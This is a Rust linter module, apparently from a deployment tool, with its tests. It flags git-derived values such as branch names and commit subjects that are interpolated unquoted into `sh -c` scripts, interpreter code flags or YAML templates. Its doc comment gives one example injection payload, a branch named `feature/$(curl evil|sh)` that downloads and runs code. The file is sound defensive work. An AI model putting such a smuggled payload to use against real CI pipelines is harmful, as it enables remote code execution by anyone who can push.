//! Values from git in places where they would be read as code or as YAML structure.
//!
//! Render commands that would run a branch name as code:
//! Branch names, commit subjects and authors are chosen by whoever can push. As separate
//! arguments of a program they are plain data, but interpolated into the script of
//! `sh -c "..."` a branch called `feature/$(curl evil|sh)` runs. A shell script may interpolate a
//! value only through the `shell_quote` filter; the code argument of another interpreter
//! (`python -c`, `perl -e`, ...) may not interpolate at all: such values travel in the
//! `OCTOSTAGE_*` environment variables.

/// Programs that read `-c SCRIPT` as shell code.
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox"];
/// Interpreters with a flag that takes code, and that flag.
const INTERPRETERS: &[(&str, &[&str])] = &[
    ("python", &["-c"]),
    ("python3", &["-c"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("php", &["-r"]),
];

/// Values of the template context anyone who can push chooses the text of (branch names are
/// restricted by git, commit subjects and authors are not).
const UNTRUSTED: &[&str] = &["branch.name", "commit.subject", "commit.author"];

/// Places in a YAML template where a value from git is written without `tojson`: (line,
/// expression). Unquoted, `commit.subject` can add keys to a flow mapping or anchors and tags;
/// in quotes, a `"` in it ends the string.
pub fn yaml_template(source: &str) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    for (i, line) in source.lines().enumerate() {
        for e in expressions(line) {
            let compact: String = e.chars().filter(|c| !c.is_whitespace()).collect();
            let quoted = ["|tojson", "|slug", "|shell_quote", "|length"]
                .iter()
                .any(|f| compact.contains(f));
            if !quoted && UNTRUSTED.iter().any(|u| compact.contains(u)) {
                out.push((i + 1, e.trim().to_string()));
            }
        }
    }
    out
}

/// The problems of a render command: (argument index, message).
pub fn command(argv: &[String]) -> Vec<(usize, String)> {
    let Some(first) = argv.first() else {
        return Vec::new();
    };
    // `env [VAR=x...] prog` and `busybox sh` run the program that follows.
    let mut start = 0;
    let mut program = basename(first);
    while program == "env" || program == "busybox" {
        start += 1;
        while argv
            .get(start)
            .is_some_and(|a| a.contains('=') || a.starts_with('-'))
        {
            start += 1;
        }
        let Some(next) = argv.get(start) else {
            return Vec::new();
        };
        program = basename(next);
    }
    let version_stripped = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if SHELLS.contains(&program) {
        return shell_script(argv, start)
            .map(|i| unquoted(&argv[i], i))
            .unwrap_or_default();
    }
    for (name, flags) in INTERPRETERS {
        if program == *name || version_stripped == *name {
            return code_argument(argv, start, flags)
                .filter(|&i| !expressions(&argv[i]).is_empty())
                .map(|i| {
                    vec![(
                        i,
                        format!(
                            "the code run by `{program}` interpolates a template value: anyone who can push a branch could run code here; read the value from its environment variable instead (such as OCTOSTAGE_BRANCH)"
                        ),
                    )]
                })
                .unwrap_or_default();
        }
    }
    Vec::new()
}

fn basename(p: &str) -> &str {
    p.rsplit('/').next().unwrap_or(p)
}

/// The index of the script of `sh [options] -c SCRIPT`, if the shell is given one.
fn shell_script(argv: &[String], program: usize) -> Option<usize> {
    let mut seen_c = false;
    let mut i = program + 1;
    while i < argv.len() {
        let a = argv[i].as_str();
        if a == "--" {
            i += 1;
            break;
        }
        if a == "-o" || a == "+o" {
            i += 2;
            continue;
        }
        if (a.starts_with('-') || a.starts_with('+')) && a.len() > 1 && !a.starts_with("--") {
            seen_c |= a[1..].contains('c');
            i += 1;
            continue;
        }
        if a.starts_with("--") {
            i += 1;
            continue;
        }
        break;
    }
    (seen_c && i < argv.len()).then_some(i)
}

/// The index of the code argument of `python -c CODE` and the like.
fn code_argument(argv: &[String], program: usize, flags: &[&str]) -> Option<usize> {
    argv.iter()
        .enumerate()
        .skip(program + 1)
        .find(|(_, a)| flags.contains(&a.as_str()))
        .map(|(i, _)| i + 1)
        .filter(|&i| i < argv.len())
}

/// Every `{{ ... }}` of `script` that does not end in `| shell_quote`.
fn unquoted(script: &str, index: usize) -> Vec<(usize, String)> {
    expressions(script)
        .into_iter()
        .filter(|e| !is_quoted(e))
        .map(|e| {
            let inner = e.trim();
            (
                index,
                format!(
                    "the shell script interpolates `{{{{ {inner} }}}}` unquoted: anyone who can push a branch could run code here; write `{{{{ {inner} | shell_quote }}}}` (or use its environment variable, quoted: \"$OCTOSTAGE_BRANCH\")"
                ),
            )
        })
        .collect()
}

/// The inner text of each `{{ ... }}` (whitespace control `-`/`+` removed).
fn expressions(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("{{") {
        let after = &rest[start + 2..];
        let Some(end) = after.find("}}") else { break };
        let inner = after[..end]
            .trim_start_matches(['-', '+'])
            .trim_end_matches(['-', '+']);
        out.push(inner);
        rest = &after[end + 2..];
    }
    out
}

fn is_quoted(expr: &str) -> bool {
    let compact: String = expr.chars().filter(|c| !c.is_whitespace()).collect();
    compact.ends_with("|shell_quote")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn args(a: &[&str]) -> Vec<String> {
        a.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn shell_scripts_must_quote_every_value() {
        let bad = command(&args(&["sh", "-c", "echo {{ branch.name }} >> log"]));
        assert_eq!(bad.len(), 1);
        assert_eq!(bad[0].0, 2);
        assert!(
            bad[0].1.contains("{{ branch.name | shell_quote }}"),
            "{}",
            bad[0].1
        );
        for ok in [
            &["sh", "-c", "echo {{ branch.name | shell_quote }} >> log"][..],
            &["sh", "-c", "echo {{- branch.name|shell_quote -}}"],
            &["sh", "-c", "echo \"$OCTOSTAGE_BRANCH\""],
            &["sh", "render.sh", "{{ branch.name }}"],
            &["helm", "template", "{{ staging }}", "charts/app"],
        ] {
            assert!(command(&args(ok)).is_empty(), "{ok:?}");
        }
        for bad in [
            &["/bin/bash", "-euc", "x {{ commit.subject }}"][..],
            &["bash", "-o", "pipefail", "-c", "x {{ branch.name }}"],
            &["env", "A=b", "sh", "-c", "x {{ branch.name }}"],
            &["busybox", "sh", "-c", "x {{ branch.name }}"],
        ] {
            assert_eq!(command(&args(bad)).len(), 1, "{bad:?}");
        }
    }

    #[test]
    fn git_values_in_yaml_need_tojson() {
        let found = yaml_template(
            "a: {{ branch.name }}\nb: \"{{ commit.subject }}\"\nc: {{ commit.subject | tojson }}\nd: {{ branch.slug }}\ne: {{ commit.sha }}\n",
        );
        assert_eq!(
            found,
            [
                (1, "branch.name".to_string()),
                (2, "commit.subject".to_string())
            ]
        );
    }

    #[test]
    fn other_interpreters_take_values_from_the_environment_only() {
        assert_eq!(
            command(&args(&["python3", "-c", "print('{{ branch.name }}')"])).len(),
            1
        );
        assert!(command(&args(&[
            "python3",
            "-c",
            "import os; print(os.environ['OCTOSTAGE_BRANCH'])"
        ]))
        .is_empty());
        assert_eq!(
            command(&args(&[
                "perl",
                "-e",
                "print '{{ branch.name | shell_quote }}'"
            ]))
            .len(),
            1
        );
    }
}
